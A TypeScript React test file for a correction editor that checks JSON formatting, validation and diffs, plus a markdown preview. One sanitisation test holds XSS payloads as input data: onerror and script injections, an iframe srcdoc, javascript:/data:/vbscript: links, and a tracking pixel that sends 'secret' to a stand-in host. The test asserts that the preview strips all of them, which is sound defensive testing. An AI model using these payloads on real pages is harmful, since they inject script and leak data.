import { fireEvent, screen, waitFor } from '@testing-library/react'
import { describe, expect, it, onTestFinished } from 'vitest'
import {
  button,
  field,
  openEditor,
  problem,
  reaches,
  send,
  toShowDiff,
  write,
} from '../testing/correctionInPage.ts'
import { renderFeedback } from '../testing/renderFeedback.tsx'
import { CorrectionEditor } from './CorrectionEditor.tsx'

const original = '{"city":"Sydney","population":5297089}'
const pretty = '{\n  "city": "Sydney",\n  "population": 5297089\n}'

describe('a correction of JSON', () => {
  const opened = async (props: object = {}) => {
    const view = renderFeedback(<CorrectionEditor original={original} format="json" {...props} />)
    await openEditor()
    return view
  }

  it('is shown in lines, and sent as the original is laid out', async () => {
    const { gateway } = await opened()
    expect(field().value).toBe(pretty)
    send()
    expect(problem()).toBe('Nothing was changed yet.')
    write(pretty.replace('Sydney', 'Canberra'))
    await toShowDiff('{\n  "city": "[-Sydney-]{+Canberra+}",\n  "population": 5297089\n}')
    send()
    await reaches('delivered')
    expect(gateway.received[0]?.signal).toMatchObject({
      improvement: { content: '{"city":"Canberra","population":5297089}' },
      metadata: { edit_distance: 1 },
    })
  })

  it('is sent in lines where the original was', async () => {
    const { gateway } = await opened({ original: '{\n    "a": 1\n}' })
    write('{\n    "a": 2\n}')
    send()
    await reaches('delivered')
    expect(gateway.received[0]?.signal.improvement?.content).toBe('{\n    "a": 2\n}')
  })

  it('is none where only its layout is another', async () => {
    await opened()
    write(original)
    send()
    expect(problem()).toBe('Nothing was changed yet.')
  })

  it('is not sent while it is not valid, and says where', async () => {
    const { gateway } = await opened()
    const wrong = '{\n  "city": "Canberra",\n}'
    write(wrong)
    send()
    expect(problem()).toBe('Not valid JSON: line 3, column 1, at }')
    expect(field().value.slice(field().selectionStart, field().selectionEnd)).toBe('}')
    fireEvent.click(button('Format'))
    expect(problem()).toBe('Not valid JSON: line 3, column 1, at }')
    write('{"city": ')
    send()
    expect(problem()).toBe('Not valid JSON: line 1, column 10, at the end')
    expect(gateway.received).toEqual([])
  })

  it('is laid out at a click', async () => {
    await opened()
    write('{"city":"Canberra","population":12345678901234567890}')
    fireEvent.click(button('Format'))
    expect(field().value).toBe('{\n  "city": "Canberra",\n  "population": 12345678901234567890\n}')
  })

  it('goes through the rules of the app', async () => {
    const validate = (value: unknown) =>
      value instanceof Object && 'city' in value ? undefined : 'A city is missing.'
    await opened({ validate })
    write('{"town": 1}')
    send()
    expect(problem()).toBe('A city is missing.')
  })

  it('may begin with an answer that is none', async () => {
    const { gateway } = await opened({ original: 'Sorry, here is your JSON: {' })
    write('{"a": 1}')
    send()
    await reaches('delivered')
    expect(gateway.received).toHaveLength(1)
  })
})

describe('the preview of markdown', () => {
  const preview = async (markdown: string, props: object = {}) => {
    renderFeedback(<CorrectionEditor original={markdown} format="markdown" {...props} />)
    await openEditor()
    fireEvent.click(button('Preview'))
    return screen.getByRole('group', { name: 'Preview' })
  }
  const drawn = (element: HTMLElement) =>
    waitFor(() => expect(element.textContent).not.toBe(''), { timeout: 10_000 })

  it('shows what it will look like, and goes back to the field', async () => {
    const element = await preview(
      '# Capitals\n\n| Country | Capital |\n| - | - |\n| Australia | **Canberra** |',
    )
    await drawn(element)
    expect(element.querySelector('h1')?.textContent).toBe('Capitals')
    expect(element.querySelector('td strong')?.textContent).toBe('Canberra')
    expect(button('Preview').getAttribute('aria-pressed')).toBe('true')
    expect(screen.queryByRole('textbox')).toBeNull()
    fireEvent.click(button('Preview'))
    expect(field().hidden).toBe(false)
  })

  it('does nothing that a hostile answer wants', async () => {
    const violations: string[] = []
    const note = (event: SecurityPolicyViolationEvent) => violations.push(event.blockedURI)
    document.addEventListener('securitypolicyviolation', note)
    onTestFinished(() => document.removeEventListener('securitypolicyviolation', note))
    const element = await preview(
      [
        '<img src=x onerror="document.title=\'owned\'"><script>document.title="owned"</script>',
        '<iframe srcdoc="<script>top.document.title=1</script>"></iframe>',
        '[one](javascript:alert(1)) [two](data:text/html,<script>1</script>) [three](vbscript:x) [four](JaVaScRiPt:x)',
        '<javascript:alert(1)>',
        '![pixel](https://tracker.test/?q=secret)',
        '[fine](https://example.com/a)',
      ].join('\n\n'),
    )
    await drawn(element)
    await waitFor(() => expect(element.textContent).toContain('fine'))
    expect(element.querySelectorAll('img,script,iframe,object,embed,style,form,[onerror]')).toHaveLength(0)
    const addresses = [...element.querySelectorAll('a')].map((link) => link.getAttribute('href'))
    expect(addresses).toEqual(
      [null, null, null, null, null, 'https://example.com/a'].slice(-addresses.length),
    )
    expect(element.querySelector('a[href]')?.getAttribute('rel')).toContain('noopener')
    expect(element.textContent).toContain('pixel')
    expect(document.title).not.toContain('owned')
    expect(violations).toEqual([])
  })

  it('is the one of the app where it has one, and a mistake in it costs the preview only', async () => {
    const element = await preview('Sixty', { renderPreview: (markdown: string) => <b>{markdown}</b> })
    expect(element.innerHTML).toBe('<b>Sixty</b>')
  })

  it('that fails leaves the text', async () => {
    const element = await preview('Sixty', {
      renderPreview: () => {
        throw new Error('a mistake of the app')
      },
    })
    expect(element.innerHTML).toBe('')
    fireEvent.click(button('Preview'))
    expect(field().value).toBe('Sixty')
  })

  it('is none of plain text', async () => {
    renderFeedback(<CorrectionEditor original="Sixty" />)
    await openEditor()
    expect(screen.queryByRole('button', { name: 'Preview' })).toBeNull()
    expect(screen.queryByRole('button', { name: 'Format' })).toBeNull()
  })
})
